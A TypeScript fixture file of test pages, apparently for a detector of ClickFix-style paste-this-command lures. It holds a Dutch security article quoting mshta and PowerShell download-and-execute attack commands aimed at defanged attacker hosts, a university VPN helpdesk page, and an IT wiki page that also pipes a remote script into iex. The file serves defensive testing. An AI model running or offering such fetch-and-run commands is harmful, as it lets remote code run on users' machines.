import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-securityblog-clickfix-nep-captcha-uitleg',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://www.security.nl/posting/8' + digits('secnl', 5) + '/Criminelen+gebruiken+nep-CAPTCHA+om+malware+te+verspreiden',
  body: doc({
    lang: 'nl',
    title: 'Criminelen gebruiken nep-CAPTCHA om malware te verspreiden - Security.NL',
    css: articleCss('#1b5e20', 'Verdana, Arial, sans-serif') + `pre{background:#f4f4f4;border:1px solid #ddd;padding:12px;font-size:13px;white-space:pre-wrap;word-break:break-all}`,
    body: `<header class="site"><a class="brand" href="https://www.security.nl/">Security.NL</a><nav><a href="#">Nieuws</a><a href="#">Forum</a></nav></header>
<main><h1>Criminelen gebruiken nep-CAPTCHA om malware te verspreiden</h1><div class="meta">Door Redactie · 10:41 · 37 reacties</div>
<article><p>Aanvallers compromitteren websites van restaurants en hotels en tonen bezoekers een nagemaakte CAPTCHA of Cloudflare-controle. Wie op "Ik ben geen robot" klikt, krijgt ongemerkt een commando op het klembord. Vervolgens wordt gevraagd om Windows-toets + R in te drukken, Ctrl+V en Enter. Deze techniek staat bekend als ClickFix.</p>
<p>Een voorbeeld van het commando dat onderzoekers aantroffen:</p>
<pre>mshta https://zeezicht-cdn[.]shop/v.hta # I am not a robot - reCAPTCHA Verification ID: 4471</pre>
<p>Andere varianten gebruiken PowerShell:</p>
<pre>powershell -w h -nop -c "$u='https://cdn-verifica[.]click/a';iex (irm $u)"</pre>
<p>De payload is meestal een infostealer zoals Lumma of een remote access trojan. Beheerders kunnen het uitvoeren van mshta.exe blokkeren via AppLocker en de RunMRU-registersleutel monitoren. Gebruikers wordt aangeraden nooit commando's te plakken die een website opgeeft.</p></article></main>
<footer>Security.NL · Alle rechten voorbehouden</footer>`,
  }),
},
{
  id: 'yg-kuleuven-helpdesk-vpn-script',
  label: 'clean',
  kind: 'it-helpdesk',
  url: 'https://www.kuleuven.be/ict/hulp/vpn/installatie-windows',
  body: doc({
    lang: 'nl-BE',
    title: 'VPN installeren op Windows | ICTS KU Leuven',
    css: articleCss('#1d8db0', 'Arial, sans-serif') + `pre{background:#0f2a3a;color:#e0f0ff;padding:14px;border-radius:4px;font-size:13px;overflow:auto}.cp{background:#1d8db0;color:#fff;border:0;padding:6px 14px;border-radius:3px;cursor:pointer}.dl{display:inline-block;background:#1d8db0;color:#fff;padding:10px 20px;text-decoration:none;border-radius:3px}`,
    body: `<header class="site"><a class="brand" href="https://www.kuleuven.be/">KU LEUVEN</a><nav><a href="#">ICTS</a><a href="#">Hulp</a></nav></header>
<main><h1>VPN installeren op Windows</h1><article>
<p>Om van thuis toegang te krijgen tot interne toepassingen gebruik je de Ivanti Secure Access client. Download de client via onderstaande knop en meld je aan met je KU Leuven-account en multifactorauthenticatie.</p>
<p><a class="dl" href="https://www.kuleuven.be/ict/downloads/ps-pulse-win-22.7r1.0-b28369-64bitinstaller.msi">Client downloaden (64-bit, .msi)</a></p>
<h2>Installatie via PowerShell (voor beheerde toestellen)</h2><p>Op toestellen beheerd door ICTS kan je de client ook met het volgende commando installeren vanuit een PowerShell-venster <b>als administrator</b>:</p>
<pre id="c1">msiexec /i "$env:USERPROFILE\\Downloads\\ps-pulse-win-22.7r1.0-b28369-64bitinstaller.msi" /qn CONFIGFILE="\\\\ad.kuleuven.be\\netlogon\\vpn\\kuleuven.pulsepreconfig"</pre>
<button class="cp" onclick="navigator.clipboard.writeText(document.getElementById('c1').innerText)">Kopieer commando</button>
<p>Lukt het niet? Contacteer de ICTS Servicedesk via <a href="https://admin.kuleuven.be/icts/servicepunt">ServicePunt</a> of bel 016 32 22 00. ICTS zal je nooit vragen een commando uit te voeren via een pop-up op een externe website.</p></article></main>
<footer>© KU Leuven · Oude Markt 13, 3000 Leuven</footer>`,
  }),
  routes: {
    'www.kuleuven.be/ict/downloads/ps-pulse-win-22.7r1.0-b28369-64bitinstaller.msi': fileRoute(Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(8184, 0)]), 'application/x-msi', 'ps-pulse-win-22.7r1.0-b28369-64bitinstaller.msi'),
  },
},
{
  id: 'yg-sysadmin-wiki-winget-script-mt',
  label: 'clean',
  kind: 'it-howto',
  url: 'https://wiki.it.um.edu.mt/display/ITS/Setting+up+a+new+staff+laptop',
  body: doc({
    lang: 'en',
    title: 'Setting up a new staff laptop - IT Services - University of Malta Wiki',
    css: `body{margin:0;font-family:-apple-system,'Segoe UI',Arial,sans-serif;color:#172b4d;background:#fff}.h{background:#0747a6;color:#fff;padding:10px 20px}.m{max-width:860px;margin:20px auto;padding:0 16px}pre{background:#f4f5f7;border:1px solid #dfe1e6;padding:12px;font-size:13px;overflow:auto}.pn{background:#deebff;border-left:4px solid #0052cc;padding:10px;font-size:14px}`,
    body: `<div class="h">Confluence · IT Services</div><div class="m"><h1>Setting up a new staff laptop</h1>
<div class="pn">This page is for IT Services technicians. Staff should open a ticket on the Service Desk instead of running these steps themselves.</div>
<h2>1. Install standard software with winget</h2><pre>winget install --id Microsoft.Office -e --silent
winget install --id Mozilla.Firefox -e --silent
winget install --id 7zip.7zip -e --silent
winget install --id Zoom.Zoom -e --silent</pre>
<h2>2. Join Intune</h2><pre>Start-Process "ms-device-enrollment:?mode=mdm&amp;username=$env:USERNAME@um.edu.mt"</pre>
<h2>3. Map network drives</h2><pre>New-PSDrive -Name "S" -PSProvider FileSystem -Root "\\\\fs01.um.edu.mt\\staff\\$env:USERNAME" -Persist</pre>
<h2>4. Bypass execution policy for the onboarding script</h2><pre>Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force
iex (irm https://deploy.it.um.edu.mt/onboard/staff.ps1)</pre>
<p>Last updated by Joseph Camilleri · 3 comments</p></div>`,
  }),
},
];
